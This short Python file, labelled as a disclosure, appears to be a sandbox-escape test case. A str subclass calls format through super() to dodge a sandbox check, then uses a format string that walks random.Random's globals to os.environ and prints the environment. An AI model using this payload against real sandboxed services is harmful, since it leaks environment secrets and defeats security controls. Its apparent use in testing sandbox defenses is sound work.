# kind: disclosure
# str.format reached through super() in a str subclass: the bound method's
# owner is not a str instance at the attribute read.
import random


class S(str):
    def leak(self, x):
        return super().format(x)


print("ESCAPED", S("{0.__init__.__globals__[_os].environ}").leak(random.Random))
